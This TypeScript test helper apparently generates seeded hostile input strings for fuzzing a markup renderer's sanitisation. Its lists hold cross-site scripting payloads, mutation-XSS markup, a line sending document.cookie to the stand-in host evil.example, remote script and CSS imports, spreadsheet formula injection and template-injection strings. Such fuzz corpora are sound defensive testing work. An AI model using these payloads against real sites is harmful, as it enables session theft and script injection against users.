import { makeRandom, type Random } from '@reeve/scenario';

const pick = <T>(random: Random, list: readonly T[]): T => list[Math.floor(random() * list.length)] as T; // none is empty

const SCRIPTS = [
  'alert(1)',
  'prompt`1`',
  'eval("confirm(1)")',
  'top.location="https://evil.example/"+document.cookie',
  'import("https://evil.example/x.js")',
  'document.write("<script>alert(1)</script>")',
  'constructor.constructor("alert(1)")()',
  'window["al"+"ert"](1)',
] as const;
const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//',
  'java\u200bscript:alert(1)',
  '&#106;avascript&colon;alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg/onload=alert(1)>',
  'vbscript:msgbox(1)',
  'blob:https://evil.example/1',
  '//evil.example/x',
  'https://evil.example/x"onmouseover="alert(1)',
  'https://evil.example/x',
  'mailto:a@evil.example?body=<script>alert(1)</script>',
  '\\\\evil.example\\x',
  'concept:CO-<svg onload=alert(1)>',
  '#b-"><svg onload=alert(1)>',
] as const;
const TAGS =
  'img svg video audio details body input iframe object embed math marquee a form button select style link meta base template noscript x-y svg/a IMG ſvg'.split(
    ' ',
  );
const EVENTS =
  'onerror|onload|onclick|autofocus onfocus|open ontoggle|onanimationstart|onbegin|onwheel|onpointerenter|style="animation:x" onanimationend|tabindex=1 onblur|ONERROR'.split(
    '|',
  );
const QUOTES = ['"', "'", '`', ''] as const;
const MUTATING = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg><foreignObject><body onload=alert(1)>',
  '<table><td background="javascript:alert(1)"><script>alert(1)</script>',
  '<select><template><script>alert(1)</script></template>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<style>@import"https://evil.example/x.css";*{background:url(https://evil.example/y)}</style>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s><use href="data:image/svg+xml,<svg id=x/>#x">',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
] as const;
const ENDS = [
  '<!--',
  '-->',
  ']]>',
  '<![CDATA[',
  '"><script>',
  '\'"--></style></script>',
  '<plaintext>',
  '</textarea>',
  '<a href="',
  '</title></main></body></html>',
  '<',
  '<<',
  '<img src="x',
  '&lt;',
  '&amp;lt;script&gt;',
  '&#x3c;script&#x3e;',
  '%3Cscript%3E',
];
const NAMES = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'innerHTML',
  '[object Object]',
  'null',
  'NaN',
];
const SIGNS = [
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2069',
  '\u200b',
  '\u200d',
  '\u2060',
  '\u2028',
  '\u2029',
  '\u00ad',
  'Z\u0301\u0302\u0303\u0304',
];
const PLACES = [
  '{{title}}',
  '{{- reference}}',
  '$t(common:close)',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '<%= 1 %>',
  '#{1}',
];
const FORMULAS = ['=HYPERLINK("https://evil.example","x")', '@SUM(1)', '+cmd|calc!A0', '-2+3', "'=1"];

type Shape = (random: Random) => string;
const some =
  (list: readonly string[]): Shape =>
  (random) =>
    pick(random, list);
const quoted = (random: Random, text: string): string => {
  const quote = pick(random, QUOTES);
  return `${quote}${text}${pick(random, [quote, quote, ''])}`;
};

/** The markup of a block, used against its reader. */
const markup: Shape = (random) => {
  const address = pick(random, ADDRESSES);
  const words = pick(random, ['x', '', '**x**', '<b>x</b>', '`x`', '\\]', '<img src=x onerror=alert(1)>', '\u202ex']);
  return pick(random, [
    `[${words}](${address})`,
    `**[${words}](${address})**`,
    `[${words}[${words}](${address})](${address})`,
    `\\[${words}](${address})`,
    `[^${pick(random, NAMES)}]`,
    `[${words}](concept:CO-00000)[${words}](#b-00000000)`,
    `\`${pick(random, SCRIPTS)}`,
    '*'.repeat(1 + Math.floor(random() * 40)),
    '['.repeat(1 + Math.floor(random() * 40)),
  ]);
};

const SHAPES: readonly Shape[] = [
  (random) => `<script>${pick(random, SCRIPTS)}</script>`,
  (random) => `<script src=${quoted(random, pick(random, ADDRESSES))}></script>`,
  (random) => `<${pick(random, TAGS)} src=x ${pick(random, EVENTS)}=${quoted(random, pick(random, SCRIPTS))}>`,
  (random) => `<${pick(random, TAGS)} ${pick(random, EVENTS)}=${quoted(random, pick(random, SCRIPTS))}`,
  (random) => `<a href=${quoted(random, pick(random, ADDRESSES))}>x</a>`,
  (random) => `<${pick(random, TAGS)} data=${quoted(random, pick(random, ADDRESSES))} srcset="//evil.example/x 1x">`,
  (random) => `<x style=${quoted(random, 'background:url(javascript:alert(1))')}>`,
  markup,
  markup,
  some(MUTATING),
  some(ENDS),
  some(NAMES),
  some(SIGNS),
  some(PLACES),
  some(FORMULAS),
  (random) => pick(random, ['x', 'Ж', '<', '&', '𝔘', '*']).repeat(random() < 0.1 ? 1500 : 60),
];

/**
 * Returns hostile texts, each different: scripts, handlers, addresses, half elements, our own markup reversed, signs
 * that turn or hide others, words without end. The same for the same seed.
 */
export function hostileTexts(count: number, seed: string): readonly string[] {
  const random = makeRandom(seed);
  return Array.from({ length: count }, (_, nth) => {
    const parts = Array.from({ length: 1 + Math.floor(random() * 3) }, () => pick(random, SHAPES)(random));
    const text = parts.join(pick(random, ['', ' ', '"', '>']));
    return random() < 0.5 ? `${text} ${nth}` : `${nth}${text}`;
  });
}
